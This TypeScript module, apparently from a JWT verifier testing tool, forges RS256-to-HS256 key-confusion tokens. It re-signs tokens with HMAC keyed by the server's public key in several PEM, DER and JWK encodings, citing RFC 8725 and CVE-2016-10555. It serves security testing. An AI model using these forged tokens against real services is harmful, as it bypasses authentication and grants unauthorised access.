// Key confusion (RS256 → HS256): the token re-signed with HMAC keyed with the verifier's own
// public key, as each text or byte form a server may keep it in. A verifier that lets the
// header pick HMAC and hands it "the key" accepts these. RFC 8725 §2.1; CVE-2016-10555.
import { findPemBlocks } from '../crypto/pem';
import { hmacSha2 } from '../crypto/hmac';
import type { AttackName, KeyBundle, Variant } from '../report';
import { thumbprintInput } from '../keys/candidate';
import { compact, headerWith, signingInput, type ForgeInput } from './input';

const utf8 = new TextEncoder();
const HS_BY_BITS = { 256: 'SHA-256', 384: 'SHA-384', 512: 'SHA-512' } as const;

/** The HMAC secret of each key-confusion variant, from the public key's bundle. */
export function confusionSecrets(bundle: KeyBundle): [AttackName, string, Uint8Array][] {
  const pem = bundle.spkiPem;
  const der = pem ? findPemBlocks(pem)[0]?.der : undefined;
  if (!pem || !der || !bundle.publicJwk) return [];
  const lf = pem.replace(/\r\n/g, '\n').replace(/\s+$/, '');
  return [
    ['key-confusion:pem', 'its SPKI PEM text (with the final newline)', utf8.encode(`${lf}\n`)],
    ['key-confusion:pem-no-newline', 'its SPKI PEM text without the final newline', utf8.encode(lf)],
    ['key-confusion:pem-crlf', 'its SPKI PEM text with CRLF line ends', utf8.encode(`${lf.replace(/\n/g, '\r\n')}\r\n`)],
    ['key-confusion:der', 'its SPKI DER bytes', der],
    ['key-confusion:jwk', 'its JWK JSON (RFC 7638 member order, no spaces)', utf8.encode(thumbprintInput(bundle.publicJwk) ?? '')],
  ];
}

/** HS256, HS384 or HS512 by the original alg's hash size (RS384 → HS384); HS256 otherwise. */
function hmacAlgOf(alg: string): { alg: string; hash: (typeof HS_BY_BITS)[keyof typeof HS_BY_BITS] } {
  const bits = /(256|384|512)$/.exec(alg)?.[1] as keyof typeof HS_BY_BITS | undefined;
  const chosen = bits ?? 256;
  return { alg: `HS${chosen}`, hash: HS_BY_BITS[chosen] };
}

export function keyConfusionVariants(input: ForgeInput, bundle: KeyBundle): Variant[] {
  const { alg, hash } = hmacAlgOf(input.alg);
  const header = headerWith(input, { alg });
  const data = signingInput(input, header);
  return confusionSecrets(bundle).map(([attack, form, secret]) => ({
    attack,
    token: compact(input, header, hmacSha2(hash, secret, data)),
    rule: 'alg-confusion-forgery',
    explanation: `A verifier that lets the header switch it to ${alg} checks the HMAC with the public key as the secret, and this token is keyed with ${form}.`,
  }));
}
